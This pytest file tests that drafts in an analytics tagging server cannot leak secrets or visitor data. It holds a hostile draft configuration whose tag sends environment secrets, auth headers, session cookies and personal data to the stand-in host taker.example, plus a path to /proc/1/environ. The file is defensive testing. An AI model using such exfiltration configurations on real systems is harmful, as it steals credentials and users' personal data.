"""Whoever may write a draft learns no secret by it, and no more of a visitor than the debug page shows of him."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.server.drafts.conftest import TEST, Editor, mistakes
from tests.server.inspection.conftest import FILE, HIT, SECRETS, Desk

GREEDY = """
environment: {GA4_ID: G-ABC1234567, AWS_SECRET_ACCESS_KEY: none, MP_SECRET: none, HOOK_KEY_FILE: none}
clients:
  web: {type: ga4, measurement_ids: ["${GA4_ID}"]}
  backend: {type: measurement_protocol}
tags:
  taker:
    type: http_request
    url: https://taker.example/
    headers: {X-One: "${GA4_API_SECRET}", X-Two: "${HOOK_KEY}", X-Three: "${HOOK_PASSWORD}"}
    body:
      environment: "{{ env.AWS_SECRET_ACCESS_KEY }} {{ env.MP_SECRET }} {{ env.HOOK_KEY_FILE }}"
      asked: "{{ request.query.api_secret }} {{ request.headers.authorization }} {{ request.cookies.session }}"
      signed: "{{ 'x' | hmac('GA4_API_SECRET') }}"
      mail: "{{ event.email }}"
      phone: "{{ request.query['ep.phone'] }}"
      address: "{{ request.ip }}"
tests:
  - name: takes
    client: web
    event: {event_name: page_view, email: somebody@shop.example}
    sent: {taker: [{headers: {X-One: no}, body: {environment: no}}]}
"""


@pytest.fixture
def greedy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Editor:
    """Beside a process that knows more than the configuration in force asks for."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "canary-of-the-process")
    monkeypatch.setenv("HOOK_KEY_FILE", "/canary-of-a-path")
    editor = Editor(Desk(tmp_path, FILE + TEST))
    cookies = ("cookie", "session=canary-session; _ga=GA1.1.5.6")
    editor.desk.hit(extra="&ep.email=somebody%40shop.example&ep.phone=0711-4711", ip="203.0.113.77", headers=(cookies,))
    editor.desk.measurement(
        {"client_id": "1.2", "events": [{"name": "purchase"}]}, headers=(("authorization", "Basic canary-sender"),)
    )
    query = "measurement_id=G-ABC1234567&api_secret=canary-of-a-stranger"
    editor.desk.met(editor.desk.request(query, b'{"client_id": "1.2", "events": []}', path="/mp/collect"))
    return editor


def test_no_draft_gets_at_a_secret_by_whatever_it_asks_for(greedy: Editor) -> None:
    answers = [greedy(do, GREEDY) for do in ("check", "test", "diff")]
    assert mistakes(answers[0]) == []
    assert answers[1]["headline"] == "1 of 1 test failed"
    assert [each["tag"] for each in answers[2]["differences"]][-1:] == ["archive"]
    text = json.dumps(answers)
    assert "canary" not in text
    assert all(secret not in text for secret in SECRETS.values())


def test_what_is_told_of_a_comparison_is_masked_as_on_the_page_of_a_request(greedy: Editor) -> None:
    sources = {"who": "{{ event.email }}", "call": "{{ request.query['ep.phone'] }}", "place": "{{ request.ip }}"}
    for name, source in sources.items():
        answer = greedy("diff", FILE.replace("{type: log,", f'{{type: log, parameters: {{set: {{{name}: "{source}"}}}},'))
        text = json.dumps(answer["differences"], ensure_ascii=False)
        assert (f"body {name}" in text, "•••" in text) == (True, True)
        assert not any(personal in text for personal in ("somebody", "0711", "203.0.113.77"))


def test_what_a_worker_hands_out_holds_no_secret_and_no_session_of_the_site(greedy: Editor) -> None:
    text = json.dumps([greedy.recorded(), greedy.desk.ask("base")], ensure_ascii=False)
    assert "canary" not in text
    assert "_ga=GA1.1.5.6" in text
    assert "api_secret=***" in text


def test_the_environment_wins_only_for_names_that_the_loaded_file_lists(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GA4_ID", "G-OUTSIDE001")
    monkeypatch.setenv("PATH_OF_OURS", "canary")
    editor = Editor(Desk(tmp_path))
    assert editor.desk.ask("base")["plain"] == {"GA4_ID": "G-OUTSIDE001"}
    editor.desk.met(editor.desk.request(HIT.format(event="a").replace("G-ABC1234567", "G-OUTSIDE001")))
    listed = "environment: {GA4_ID: G-ABC1234567, PATH_OF_OURS: none}"
    draft = FILE.replace("environment: {GA4_ID: G-ABC1234567}", listed).replace(
        "{margin: ", '{where: "{{ env.PATH_OF_OURS }}", margin: '
    )
    answer = editor("diff", draft)
    assert '"none"' in json.dumps(answer["differences"])
    assert "canary" not in json.dumps(answer)


def test_a_geo_database_is_opened_only_where_it_is_in_use(tmp_path: Path) -> None:
    editor = Editor(Desk(tmp_path))
    answer = editor("test", f"{FILE}\nserver: {{geo: {{database: /proc/1/environ}}}}\n{TEST}")
    assert (mistakes(answer), answer["headline"]) == ([], "1 test passed")
